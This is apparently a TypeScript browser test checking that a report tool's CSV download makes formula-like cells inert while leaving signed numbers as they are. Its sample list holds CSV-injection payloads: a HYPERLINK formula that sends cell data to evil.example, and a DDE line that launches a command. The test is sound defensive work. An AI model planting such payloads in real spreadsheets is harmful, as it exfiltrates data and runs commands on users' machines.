import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { ReportLine } from '../../src/report/report-lines.js';
import { testOutputDir, useBrowser } from '../helpers/launch-browser.js';
import { runCli, tempDir } from './ingest-harness.js';

const browserOf = useBrowser();

const AT = '2026-11-23T07:00:00.000Z';

/** Found values of a curator's cells: text a spreadsheet would run as a formula, and numbers with a sign. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', '\t=1+1'];
const NUMBERS = ['-0.88', '-5%', '+1', '-1,234.5', '-1e-3', '0.5'];

/** A report of one run with one invalid row per value, the value found in its cell, and a key that looks like a formula. */
function reportOf(values: readonly string[]): string {
  const lines: ReportLine[] = [
    {
      type: 'run',
      at: AT,
      runId: 'r1',
      version: '0.1.0',
      startedAt: AT,
      settings: {},
      mapping: { file: 'm.yaml', fingerprint: 'f' },
      template: { id: 201, fingerprint: 'f' },
      inputs: [{ file: 'in.csv', size: 10, sha256: 'x' }],
    },
    ...values.map((found, i): ReportLine => ({
      type: 'invalid',
      at: AT,
      key: `=k${i}`,
      hash: `h${i}`,
      location: { file: 'in.csv', row: i + 2 },
      problems: [
        {
          code: 'VALUE_NOT_ALLOWED',
          message: `row ${i}: value not allowed`,
          location: { file: 'in.csv', sheet: undefined, row: i + 2, column: 'B', cell: `B${i + 2}`, header: 'yield' },
          field: 'content.yield',
          expected: 'one of the allowed values',
          found,
        },
      ],
      sourceValues: { yield: found },
    })),
    {
      type: 'summary',
      at: AT,
      counts: { uploaded: 0, invalid: values.length, failed: 0, uncertain: 0, skipped: 0, changed: 0 },
      rows: values.length,
      durationMs: 10,
      interrupted: false,
    },
  ];
  return lines.map((line) => `${JSON.stringify(line)}\n`).join('');
}

/** RFC 4180 CSV text as rows of fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describe("report --html's Download CSV in a real browser (built CLI, chromium)", () => {
  test('text that starts like a formula is made inert, a number with a sign is written as it is', async () => {
    const browser = browserOf();
    const dir = await tempDir();
    const out = await testOutputDir('report-html-download');
    const report = path.join(dir, 'formulas.report.jsonl');
    await writeFile(report, reportOf([...FORMULAS, ...NUMBERS]));
    const html = path.join(out, 'formulas.html');
    expect((await runCli(['report', report, '--html', html], {})).code).toBe(1);

    const page = await browser.open(html);
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#table-problems button.download').click()]);
    const file = await download.path();
    const text = (await readFile(file, 'utf8')).replace(/^\ufeff/, '');
    const [header = [], ...rows] = parseCsv(text);
    const found = header.indexOf('Found');
    const key = header.indexOf('Key');
    expect(found).toBeGreaterThanOrEqual(0);
    expect(key).toBeGreaterThanOrEqual(0);
    expect(rows).toHaveLength(FORMULAS.length + NUMBERS.length);
    const byKey = new Map(rows.map((row) => [row[key], row[found]]));
    // The page still shows the values exactly as found; only the file for a spreadsheet guards them.
    const shown = await page.locator('#table-problems tbody td[data-col="found"]').allTextContents();
    expect(shown).toEqual(expect.arrayContaining([...FORMULAS, ...NUMBERS]));
    for (const [i, value] of FORMULAS.entries()) expect(byKey.get(`'=k${i}`)).toBe(`'${value}`);
    for (const [i, value] of NUMBERS.entries()) expect(byKey.get(`'=k${FORMULAS.length + i}`)).toBe(value);
    // No field of the file is left that a spreadsheet would evaluate.
    for (const row of rows) for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell) && !NUMBERS.includes(cell)).toBe(false);
    expect(browser.errors).toEqual([]);
    await page.close();
  }, 60_000);
});
